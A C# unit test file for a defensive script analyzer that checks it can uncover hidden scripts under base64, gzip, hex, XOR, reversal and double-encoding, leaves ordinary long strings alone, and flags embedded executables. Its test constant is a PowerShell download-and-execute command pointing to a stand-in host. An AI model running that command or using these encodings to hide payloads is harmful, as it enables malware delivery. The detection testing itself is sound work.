using System.IO.Compression;
using System.Text;

namespace Redoubt.Scripts.Tests.Decoding;

/// <summary>Strings that nothing decodes are guessed at, and ordinary long strings are left alone.</summary>
public sealed class GuessesTests
{
    private const string Script = "$w = New-Object Net.WebClient; $w.DownloadFile('http://h.test/a.exe', 'C:\\a.exe'); Start-Process C:\\a.exe";

    public static TheoryData<string> Encoded =>
    [
        $"note \"{Convert.ToBase64String(Encoding.Unicode.GetBytes(Script))}\"",
        $"note \"{Convert.ToBase64String(Encoding.UTF8.GetBytes(Script))}\"",
        $"note \"{Convert.ToBase64String(Gzip(Script))}\"",
        $"note \"{Convert.ToHexString(Encoding.UTF8.GetBytes(Script))}\"",
        $"note \"{string.Join(", ", Encoding.UTF8.GetBytes(Script))}\"",
        $"note \"{string.Join('~', Encoding.UTF8.GetBytes(Script))}\"",
        $"note \"{string.Concat(Encoding.UTF8.GetBytes(Script).Select(one => $"\\x{one:x2}"))}\"",
        $"note \"{Convert.ToBase64String(Encoding.UTF8.GetBytes(Script).Select(one => (byte)(one ^ 0x2A)).ToArray())}\"",
        $"note \"{string.Concat(Script.Reverse())}\"",
        $"note \"{Convert.ToBase64String(Encoding.UTF8.GetBytes(Convert.ToBase64String(Encoding.UTF8.GetBytes(Script))))}\"",
    ];

    [Theory]
    [MemberData(nameof(Encoded))]
    public void Hidden_scripts_are_found(string text)
    {
        var report = ScriptAnalyzer.Analyze(text, new ScriptHints(ScriptLanguage.Unknown));
        report.Layers.ShouldContain(layer => layer.Guessed && layer.Original.Contains("DownloadFile('http://h.test/a.exe'"));
    }

    [Theory]
    [InlineData("sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")]
    [InlineData("id 6B29FC40-CA47-1067-B31D-00DD010662DA and 00000000-0000-0000-0000-000000000000")]
    [InlineData("t=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkEgQiJ9.c2lnbmF0dXJlc2lnbmF0dXJlc2lnbmF0dXJl")]
    [InlineData("C:\\Program Files\\SomeVeryLongVendorName2024\\AndAnotherLongFolderName1\\program.exe")]
    [InlineData("GetSomeVeryLongMethodNameOfAnInterface2ThatNobodyLikes(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13)")]
    [InlineData("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")]
    public void Ordinary_strings_are_left_alone(string text) => ScriptAnalyzer.Analyze(text, new ScriptHints(ScriptLanguage.Unknown)).Layers.Count.ShouldBe(1);

    [Fact]
    public void A_program_is_told_of()
    {
        var program = new byte[600];
        (program[0], program[1], program[60], program[128], program[129]) = ((byte)'M', (byte)'Z', 128, (byte)'P', (byte)'E');
        new Random(5).NextBytes(program.AsSpan(200));
        ScriptAnalyzer.Analyze($"x \"{Convert.ToBase64String(program)}\"", new ScriptHints(ScriptLanguage.Unknown)).Warnings.ShouldContain(warning => warning.Text.Contains("program"));
    }

    private static byte[] Gzip(string text)
    {
        using var to = new MemoryStream();
        using (var packed = new GZipStream(to, CompressionLevel.Optimal))
            packed.Write(Encoding.UTF8.GetBytes(text));
        return to.ToArray();
    }
}
